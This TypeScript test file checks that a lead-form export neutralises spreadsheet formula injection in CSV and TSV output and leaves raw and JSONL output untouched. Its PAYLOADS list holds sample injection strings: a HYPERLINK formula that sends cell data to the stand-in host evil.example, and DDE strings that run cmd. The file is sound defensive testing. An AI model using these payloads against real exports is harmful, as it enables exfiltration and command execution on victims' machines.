import { PassThrough } from "node:stream";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutraliseFormula } from "../src/contract/formula-cells.ts";
import { exportLeads, leadToRow, SyncStore, connectSyncDatabase, migrateSyncDatabase } from "../src/sync/index.ts";
import { databaseKinds, freshDatabase } from "./support/databases.ts";
import { type Harness, startHarness } from "./support/harness.ts";
import { exampleWorld } from "./support/worlds.ts";

/** The three answers of the issue, and the other characters OWASP lists. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
const OTHERS = ["+1+2", "-2+3"];
/** The hosted form trims answers, so leading tab and CR are checked on the rule itself. */
const BLANK_LED = ["\t=1+1", "\r=1+1"];
const tokenOf = (page: string) => /name="_token" value="([^"]+)"/.exec(page)?.[1] ?? "";

describe("neutraliseFormula", () => {
  it("prefixes a quote to cells starting with = + - @ tab or CR, and leaves the rest", () => {
    for (const v of [...PAYLOADS, ...OTHERS, ...BLANK_LED]) expect(neutraliseFormula(v)).toBe(`'${v}`);
    for (const v of ["Joe", "", " =1", "a=b", "'=quoted already"]) expect(neutraliseFormula(v)).toBe(v);
  });
});

describe.each(databaseKinds())("formula cells in exports (%s)", (kind) => {
  let h: Harness;
  const submitted: string[] = [];
  beforeAll(async () => {
    h = await startHarness(kind, { world: exampleWorld() });
    const url = await h.listen();
    // Through the public hosted form over a socket, as a stranger would.
    for (const [i, name] of [...PAYLOADS, ...OTHERS].entries()) {
      const page = await fetch(`${url}/forms/8001`);
      const cookie = page.headers.get("set-cookie")?.split(";")[0];
      const body = new URLSearchParams({
        _token: tokenOf(await page.text()),
        _action: "submit",
        "answer:full_name": name,
        "answer:email": `f${i}@example.com`,
        "answer:car_make": "kia",
        "answer:selected_dealer": "99213450",
      });
      const res = await fetch(`${url}/forms/8001`, {
        method: "POST",
        body,
        headers: { "content-type": "application/x-www-form-urlencoded", ...(cookie ? { cookie } : {}) },
      });
      expect(res.status, await res.text()).toBe(200);
      submitted.push(name);
    }
  });
  afterAll(async () => h?.close());

  const exportOf = async (query: string) => {
    const res = await fetch(`${h.url}/ads/lead_gen/export_csv/?id=8001&type=form${query}`, {
      headers: { authorization: "Bearer EAAB-page-acme" },
    });
    expect(res.status).toBe(200);
    return res.text();
  };
  const names = (table: string[][]) => table.slice(1).map((r) => r[table[0]!.indexOf("full_name")]!);

  it("writes every formula-like answer with a leading quote in CSV and TSV", async () => {
    for (const [format, delimiter] of [
      ["csv", ","],
      ["tsv", "\t"],
    ] as const) {
      const table: string[][] = parse(await exportOf(`&format=${format}`), { delimiter });
      const cells = names(table);
      for (const v of submitted) {
        expect(cells).toContain(`'${v}`);
        expect(cells).not.toContain(v);
      }
      expect(cells).toContain("Joe Example");
    }
  });

  it("writes the answers byte-exact with raw=true", async () => {
    const text = await exportOf("&format=csv&raw=true");
    const cells = names(parse(text, { delimiter: "," }));
    for (const v of submitted) expect(cells).toContain(v);
    expect(text).toContain('"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
  });
});

describe.each(databaseKinds())("formula cells in leadgraph sync's export (%s)", (kind) => {
  it("neutralises CSV cells unless raw, and leaves JSONL alone", async () => {
    const db = await freshDatabase(kind);
    const conn = connectSyncDatabase(
      "databaseUrl" in db.config ? { kind: "postgres", url: db.config.databaseUrl } : { kind: "sqlite", file: db.config.db },
    );
    try {
      await migrateSyncDatabase(conn.db);
      const store = new SyncStore(conn.db);
      await store.insertLeads(
        PAYLOADS.map((p, i) =>
          leadToRow(
            {
              id: String(100 + i),
              created_time: "2026-11-20T10:00:00+0000",
              form_id: "8001",
              field_data: [
                { name: "full_name", values: [p] },
                { name: "=header", values: ["x"] },
              ],
            },
            "3001",
            "8001",
            "reconcile",
            Date.now(),
            false,
          ),
        ),
      );
      const run = async (format: "csv" | "jsonl", raw: boolean) => {
        const out = new PassThrough();
        const chunks: Buffer[] = [];
        out.on("data", (c: Buffer) => chunks.push(c));
        await exportLeads(store, format, out, {}, { raw });
        return Buffer.concat(chunks).toString("utf8");
      };
      const safe: string[][] = parse(await run("csv", false));
      expect(safe[0]).toContain("'=header");
      const col = safe[0]!.indexOf("full_name");
      expect(
        safe
          .slice(1)
          .map((r) => r[col])
          .sort(),
      ).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
      const raw: string[][] = parse(await run("csv", true));
      expect(
        raw
          .slice(1)
          .map((r) => r[col])
          .sort(),
      ).toEqual([...PAYLOADS].sort());
      expect(await run("jsonl", false)).toContain(JSON.stringify(PAYLOADS[0]));
    } finally {
      await conn.close();
      await db.drop();
    }
  });
});
